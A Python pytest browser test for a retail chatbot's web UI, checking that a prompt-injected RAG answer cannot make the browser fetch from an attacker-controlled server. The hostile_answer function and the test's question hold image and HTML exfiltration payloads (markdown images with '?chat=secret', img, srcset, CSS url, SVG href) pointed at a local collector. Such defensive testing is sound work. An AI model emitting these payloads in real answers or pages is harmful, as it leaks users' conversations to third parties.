"""A prompt-injected answer cannot make the shopper's browser call anyone: real Chromium,
a stand-in RAG API answering with images and HTML that point at a recording server."""

from __future__ import annotations

import pytest
from playwright.sync_api import Browser
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import PlainTextResponse, Response
from starlette.routing import Route

from myretail_testkit.browser import ChatPage
from myretail_testkit.servers import LiveServer
from myretail_testkit.ui_backends import BackendState, rag_app
from myretail_ui.app import create_app
from myretail_ui.settings import UISettings

pytestmark = [
    pytest.mark.browser,
    pytest.mark.slow,
    pytest.mark.filterwarnings("ignore:.*no_silent_downcasting"),
    pytest.mark.filterwarnings("ignore:The copy keyword is deprecated"),
]


class Collector:
    """The attacker's server: records every request that reaches it."""

    def __init__(self) -> None:
        self.seen: list[str] = []

        async def record(request: Request) -> Response:
            if request.url.path != "/healthz":
                self.seen.append(str(request.url))
            return PlainTextResponse("ok")

        self.server = LiveServer(Starlette(routes=[Route("/{path:path}", record)]))


def hostile_answer(collector: str) -> str:
    return "\n\n".join(
        [
            "Here are your shoes.",
            f"![shoe]({collector}/inline.png?chat=secret)",
            f"![shoe][ref]\n\n[ref]: {collector}/reference.png",
            f'<img src="{collector}/img.png">',
            f'<picture><source srcset="{collector}/srcset.png"><img src="x"></picture>',
            f'<div style="background:url({collector}/css.png)">styled</div>',
            f"<svg><image href='{collector}/svg.png'/></svg>",
        ]
    )


def test_an_answer_with_images_and_html_loads_nothing(browser: Browser) -> None:
    collector = Collector()
    with collector.server:
        state = BackendState(answer=hostile_answer(collector.server.url))
        with LiveServer(rag_app(state)) as rag:
            settings = UISettings(
                rag_api_endpoint=rag.url, inference_api_endpoint="http://127.0.0.1:9"
            )
            with LiveServer(create_app(settings)) as ui:
                page = browser.new_page(viewport={"width": 1200, "height": 1000})
                chat = ChatPage(page, ui.url, answer_timeout_s=30).open()
                answer = chat.ask(f"shoes ![me]({collector.server.url}/question.png)")
                page.wait_for_timeout(1500)  # time for any image to be fetched
                images = page.locator("#chatbot img").evaluate_all(
                    "(nodes) => nodes.map(n => n.src)"
                )
                page.close()
    assert "Here are your shoes." in answer
    assert collector.seen == []
    assert not [src for src in images if collector.server.url in src]
